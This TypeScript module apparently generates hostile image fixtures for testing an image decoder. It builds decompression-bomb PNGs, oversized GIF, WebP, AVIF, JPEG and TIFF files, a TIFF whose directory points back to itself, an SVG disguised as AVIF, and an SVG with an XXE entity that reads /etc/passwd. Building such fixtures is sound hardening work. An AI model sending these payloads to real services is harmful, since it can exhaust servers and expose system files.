import { box, chunk, deflatedZeros, riff, text, u16, u16le, u24le, u32, u32le } from './bytes.js';

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const TRUECOLOUR_WITH_ALPHA = 6;

interface PngParts {
  width: number;
  height: number;
  data: Buffer;
  depth?: number;
  interlaced?: boolean;
}

function png({ width, height, data, depth = 8, interlaced = false }: PngParts): Buffer {
  const header = Buffer.from([depth, TRUECOLOUR_WITH_ALPHA, 0, 0, interlaced ? 1 : 0]);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', Buffer.concat([u32(width), u32(height), header])),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Bytes of the seven passes of an interlaced picture of four bytes a pixel. */
function interlacedBytes(side: number): number {
  const passes = [
    [0, 8, 0, 8],
    [4, 8, 0, 8],
    [0, 4, 4, 8],
    [2, 4, 0, 4],
    [0, 2, 2, 4],
    [1, 2, 0, 2],
    [0, 1, 1, 2],
  ] as const;
  return passes.reduce((sum, [left, across, top, down]) => {
    const [columns, rows] = [Math.ceil((side - left) / across), Math.ceil((side - top) / down)];
    return sum + rows * (1 + columns * 4);
  }, 0);
}

/** A whole picture, black and transparent, that no decoder can read row by row. */
export function interlacedPng(side = 7_500): Buffer {
  return png({ width: side, height: side, data: deflatedZeros(interlacedBytes(side)), interlaced: true });
}

/** As many bytes of picture data as are told, for a picture of one pixel. */
export function pngOfOnePixel(bytes = 60_000_000): Buffer {
  return png({ width: 1, height: 1, data: deflatedZeros(bytes) });
}

/** A header that promises more pixels than follow. */
export function pngThatPromises(side = 60_000, depth = 16): Buffer {
  return png({ width: side, height: side, depth, data: deflatedZeros(10_000) });
}

/** Text of a PNG that inflates without end. */
export function pngWithText(bytes = 30_000_000): Buffer {
  const plain = png({ width: 2, height: 2, data: deflatedZeros(18) });
  const words = chunk('zTXt', Buffer.concat([text('Comment\0\0'), deflatedZeros(bytes)]));
  const profile = chunk('iCCP', Buffer.concat([text('profile\0\0'), deflatedZeros(bytes)]));
  return Buffer.concat([plain.subarray(0, 33), words, profile, plain.subarray(33)]);
}

/** An SVG that takes minutes, behind the first bytes of an AVIF. */
export function svgBehindAvif(): Buffer {
  const filter = '<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="200"/></filter>';
  const rect = '<rect width="8000" height="8000" filter="url(#f)"/>';
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="8000" height="8000">${filter}${rect.repeat(40)}</svg>`;
  return Buffer.concat([u32(28), text('ftypavif'), u32(0), text('avifmif1'), text(svg)]);
}

/** An SVG with a file of this machine in it, as what it is. */
export function plainSvg(): Buffer {
  return text(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="90"><text>&x;</text></svg>',
  );
}

/** A picture for each three bytes. */
export function gifOfFrames(frames = 100_000, side = 1): Buffer {
  const screen = Buffer.concat([u16le(side), u16le(side), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])]);
  const frame = Buffer.concat([
    Buffer.from([0x2c]),
    u16le(0),
    u16le(0),
    u16le(1),
    u16le(1),
    Buffer.from([0, 2, 2, 0x44, 0x01, 0]),
  ]);
  return Buffer.concat([
    text('GIF89a'),
    screen,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

/** An animation on a canvas as large as the format knows. */
export function animatedWebp(side = 16_383, frames = 1_000): Buffer {
  // One lossless pixel.
  const pixel = riff(
    'VP8L',
    Buffer.from([0x2f, 0, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0x08, 0x07]),
  );
  const size = u24le(side - 1);
  const frame = riff('ANMF', Buffer.concat([Buffer.alloc(12), u24le(1), Buffer.from([0]), pixel]));
  const body = Buffer.concat([
    text('WEBP'),
    riff('VP8X', Buffer.concat([Buffer.from([0x12, 0, 0, 0]), size, size])),
    riff('ANIM', Buffer.alloc(6)),
    ...Array.from({ length: frames }, () => frame),
  ]);
  return Buffer.concat([text('RIFF'), u32le(body.length), body]);
}

/** An AVIF whose picture is put together of 255 times 255 tiles that are not there. */
export function avifGrid(side = 60_000): Buffer {
  const full = Buffer.alloc(4);
  const grid = Buffer.concat([Buffer.from([0, 1, 254, 254]), u32(side), u32(side)]);
  const item = Buffer.concat([Buffer.from([2, 0, 0, 0]), u16(1), u16(0), text('grid'), text('\0')]);
  return Buffer.concat([
    box('ftyp', text('avif'), u32(0), text('avifmif1miaf')),
    box(
      'meta',
      full,
      box('hdlr', full, u32(0), text('pict'), Buffer.alloc(13)),
      box('pitm', full, u16(1)),
      box(
        'iloc',
        Buffer.from([1, 0, 0, 0, 0x44, 0]),
        u16(1),
        u16(1),
        u16(1),
        u16(0),
        u16(1),
        u32(0),
        u32(12),
      ),
      box('iinf', full, u16(1), box('infe', item)),
      box(
        'iprp',
        box('ipco', box('ispe', full, u32(side), u32(side))),
        box('ipma', full, u32(1), u16(1), Buffer.from([1, 0x81])),
      ),
      box('idat', grid),
    ),
  ]);
}

/** A header of a JPEG, baseline or progressive, with as many scans of nothing. */
export function jpeg({ side = 65_500, progressive = false, scans = 1 }): Buffer {
  const table = Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)]);
  const codes = (kind: number) =>
    Buffer.concat([Buffer.from([kind, 0, 1]), Buffer.alloc(14), Buffer.from([0])]);
  const segment = (marker: number, data: Buffer) =>
    Buffer.concat([Buffer.from([0xff, marker]), u16(data.length + 2), data]);
  const parts = [1, 2, 3].map((id) => Buffer.from([id, 0x11, 0]));
  const scan = Buffer.concat([
    segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, progressive ? 0 : 63, 0])),
    Buffer.alloc(4),
  ]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, table),
    segment(
      progressive ? 0xc2 : 0xc0,
      Buffer.concat([Buffer.from([8]), u16(side), u16(side), Buffer.from([3]), ...parts]),
    ),
    segment(0xc4, codes(0)),
    segment(0xc4, codes(0x10)),
    ...Array.from({ length: scans }, () => scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A TIFF of as many channels, or whose directory comes after itself. */
export function tiff({ side = 60_000, channels = 3, endless = false }): Buffer {
  const entry = (tag: number, kind: number, value: number) =>
    Buffer.concat([u16le(tag), u16le(kind), u32le(1), u32le(value)]);
  const entries = [
    entry(256, 4, side),
    entry(257, 4, side),
    entry(258, 3, 8),
    entry(259, 3, 1),
    entry(262, 3, 2),
    entry(273, 4, 8),
    entry(277, 3, channels),
    entry(278, 4, side),
    entry(279, 4, 1_000),
  ];
  return Buffer.concat([
    text('II'),
    u16le(42),
    u32le(8),
    u16le(entries.length),
    ...entries,
    u32le(endless ? 8 : 0),
    Buffer.alloc(1_000),
  ]);
}
